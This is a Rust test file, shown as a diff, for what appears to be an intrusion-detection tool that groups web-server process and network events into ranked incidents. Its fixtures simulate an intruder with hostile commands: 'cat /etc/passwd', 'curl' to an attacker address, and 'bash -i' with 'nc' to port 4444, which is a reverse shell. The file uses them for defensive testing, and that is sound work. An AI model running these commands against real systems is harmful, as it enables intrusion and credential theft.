@@ -1,0 +1,191 @@
+//! What belongs together, and what stands first.
+
+use portcullis_event::field;
+use portcullis_story::{Event, Incident, Members, Outcome, Story, find};
+use serde_json::{Value, json};
+
+/// An event of a request.
+struct Made<'m> {
+    number: u64,
+    rule: &'m str,
+    site: &'m str,
+    script: &'m str,
+    client: &'m str,
+    command: &'m str,
+}
+
+const DAY: i64 = 1_790_000_000;
+
+impl Made<'_> {
+    fn value(&self) -> Value {
+        let Made { number, rule, site, script, client, command } = self;
+        let time = jiff::Timestamp::from_second(DAY + *number as i64 * 7).expect("a time");
+        let mut value = json!({
+            "@timestamp": time.to_string(), "rule": { "id": rule },
+            "event": { "id": format!("ab-{number}"), "action": "exec", "outcome": "success" },
+            "host": { "hostname": "web1" }, "client": { "address": client },
+            "http": { "request": { "id": format!("{number:x}") } }, "url": { "original": "/", "domain": site },
+            "process": { "command_line": command, "parent": { "pid": 100 } },
+            "portcullis": { "chain": "php-fpm > sh", "vhost": site, "stream": "ab", "request": { "script": script } },
+        });
+        if *rule == "egress-port" {
+            value["event"]["action"] = "connection_attempted".into();
+            let (ip, port) = command.split_once(':').expect("a destination");
+            value["destination"] = json!({ "ip": ip, "port": port.parse::<u16>().expect("a port") });
+        }
+        value
+    }
+}
+
+/// An ordinary day of ten sites, in which somebody does `more` by one script.
+fn day(more: &[(&str, &str)], client: &str, script: &str) -> Vec<Value> {
+    let mut events = Vec::new();
+    for number in 0..600_u64 {
+        let site = format!("site{}.example", number % 10);
+        let visitor = format!("198.51.100.{}", number % 57);
+        let (script, command) = match number % 3 {
+            0 => ("contact.php", "sh -c '/usr/sbin/sendmail -t -i'".to_owned()),
+            1 => ("image.php", format!("sh -c 'convert /tmp/php{number} -resize 200x200 out/{number}.jpg'")),
+            _ => ("feed.php", "203.0.113.9:8443".to_owned()),
+        };
+        let rule = if number % 3 == 2 { "egress-port" } else { "shell-spawn" };
+        let script = format!("/srv/{site}/{script}");
+        events.push(Made { number, rule, site: &site, script: &script, client: &visitor, command: &command }.value());
+    }
+    for (at, (rule, command)) in more.iter().enumerate() {
+        let made = Made { number: 1000 + at as u64, rule, site: "site4.example", script, client, command };
+        events.insert(250 + 3 * at, made.value());
+    }
+    events
+}
+
+fn found(values: &[Value], max: usize) -> Vec<Incident> {
+    let mut story = Story::bounded(max);
+    for value in values {
+        story.take(&Event::of(value));
+    }
+    find(&story.told())
+}
+
+const SHELL: [(&str, &str); 4] = [
+    ("shell-spawn", "sh -c id"),
+    ("shell-spawn", "sh -c 'cat /etc/passwd'"),
+    ("exec-tool", "curl http://192.88.1.66/x"),
+    ("egress-port", "192.88.1.66:4444"),
+];
+
+#[test]
+fn the_intruder_stands_first() {
+    for script in ["/srv/site4.example/up.php", "/srv/site4.example/contact.php"] {
+        let incidents = found(&day(&SHELL, "192.88.1.66", script), usize::MAX);
+        let first = &incidents[0];
+        let name = script.rsplit('/').next().expect("a name");
+        assert_eq!(
+            first.title(),
+            format!("Shell command from site4.example: {name}, by 192.88.1.66, 4 requests, not blocked"),
+            "{:?}",
+            incidents.iter().map(|incident| (incident.score, incident.title())).collect::<Vec<_>>()
+        );
+        assert_eq!(first.outcome, Outcome::NotBlocked);
+        let what: Vec<&str> = first.steps.iter().map(|step| &*step.what).collect();
+        assert_eq!(what, ["sh -c id", "sh -c 'cat /etc/passwd'", "curl http://192.88.1.66/x", "192.88.1.66:4444/"]);
+        assert!(first.score >= incidents[1].score + 20, "{} {}", first.score, incidents[1].score);
+        // What everybody does is one incident a script.
+        assert!(incidents[1..].iter().all(|incident| incident.is_ordinary), "{incidents:#?}");
+        assert_eq!(incidents.len(), 1 + 30);
+    }
+}
+
+/// Incidents are the same whatever the order of the events, and where they are there twice.
+#[test]
+fn order_and_copies_change_nothing() {
+    let events = day(&SHELL, "192.88.1.66", "/srv/site4.example/up.php");
+    let facts = |values: &[Value]| -> Vec<(String, u32, [u64; 2])> {
+        found(values, usize::MAX).iter().map(|one| (one.title(), one.score, one.calls)).collect()
+    };
+    let expected = facts(&events);
+    let mut other: Vec<Value> = events.iter().rev().chain(&events).cloned().collect();
+    assert_eq!(facts(&other), expected);
+    other.rotate_left(333);
+    assert_eq!(facts(&other), expected);
+}
+
+/// With little memory, ordinary trails are put together; the intruder is told apart all the same.
+#[test]
+fn little_memory_hides_nobody() {
+    let mut events = day(&SHELL, "192.88.1.66", "/srv/site4.example/up.php");
+    for number in 0..20_000_u64 {
+        let client = format!("10.{}.{}.{}", number >> 16, number >> 8 & 255, number & 255);
+        let script = "/srv/site1.example/contact.php";
+        let command = "sh -c '/usr/sbin/sendmail -t -i'";
+        let made = Made {
+            number: 5000 + number,
+            rule: "shell-spawn",
+            site: "site1.example",
+            script,
+            client: &client,
+            command,
+        };
+        events.push(made.value());
+    }
+    let incidents = found(&events, 1 << 20);
+    assert!(incidents[0].title().starts_with("Shell command from site4.example: up.php, by 192.88.1.66, 4 requests"));
+    let mails = incidents.iter().find(|incident| incident.title().contains("site1.example: contact.php"));
+    let (clients, is_exact) = mails.expect("the mails").counts[2];
+    assert!(!is_exact && (14_000..=26_000).contains(&clients), "{clients}");
+    assert!(mails.is_some_and(|mails| mails.calls == [20_020, 0]), "{mails:?}");
+}
+
+/// The events of an incident are found again: its own and no others.
+#[test]
+fn the_events_of_an_incident_are_found() {
+    let events = day(&SHELL, "192.88.1.66", "/srv/site4.example/contact.php");
+    let incidents = found(&events, usize::MAX);
+    let mut members = Members::default();
+    let own = events.iter().map(Event::of).filter(|event| members.of(event, &[&incidents[0]]).is_some());
+    let clients: Vec<String> = own.map(|event| event.text(field::CLIENT_ADDRESS).to_owned()).collect();
+    assert_eq!(clients, ["192.88.1.66"; 4]);
+}
+
+/// Events of programs that a request started and that lost it are the request's.
+#[test]
+fn a_tree_of_programs_is_one() {
+    let mut events = day(&SHELL[..1], "192.88.1.66", "/srv/site4.example/up.php");
+    let mut started = events[250].clone();
+    started["process"] = json!({ "pid": 777, "command_line": "bash -i", "parent": { "pid": 100 } });
+    started["event"]["id"] = "ab-2000".into();
+    started["@timestamp"] = later(&events[250], 1);
+    events.insert(251, started);
+    let mut lost = events[250].clone();
+    for (key, value) in [("client", json!({})), ("http", json!({})), ("url", json!({}))] {
+        lost[key] = value;
+    }
+    lost["event"]["id"] = "ab-2001".into();
+    lost["@timestamp"] = later(&events[250], 2);
+    lost["portcullis"] = json!({ "chain": "php-fpm > sh > bash > nc", "stream": "cd" });
+    lost["process"] = json!({ "command_line": "nc 192.88.1.66 4444", "parent": { "pid": 777 } });
+    events.insert(252, lost);
+    let incidents = found(&events, usize::MAX);
+    let what: Vec<&str> = incidents[0].steps.iter().map(|step| &*step.what).collect();
+    assert_eq!(what, ["sh -c id", "bash -i", "nc 192.88.1.66 4444"], "{:#?}", incidents[0]);
+}
+
+fn later(event: &Value, seconds: i64) -> Value {
+    let time: jiff::Timestamp = event["@timestamp"].as_str().expect("a time").parse().expect("a time");
+    jiff::Timestamp::from_second(time.as_second() + seconds).expect("a time").to_string().into()
+}
+
+/// Nobody's values break anything, and what is no event of this version counts all the same.
+#[test]
+fn any_fields() {
+    let odd = [
+        json!({}),
+        json!({ "rule": { "id": "of-tomorrow" }, "event": { "severity": 900, "id": "x" }, "message": "m" }),
+        json!({ "rule": { "id": "egress-port" }, "@timestamp": "never", "portcullis": { "repeated": u64::MAX } }),
+        json!({ "event": { "action": "merged", "id": "ab-1" }, "portcullis": { "like": "zz-9", "repeated": 7 } }),
+        json!({ "process": { "command_line": "\u{e9}".repeat(5000), "pid": u64::MAX }, "event": { "action": "exec" } }),
+    ];
+    let incidents = found(&odd, usize::MAX);
+    assert!(!incidents.is_empty());
+    assert!(incidents.iter().all(|incident| !incident.title().is_empty() && incident.id.len() == 8));
+}
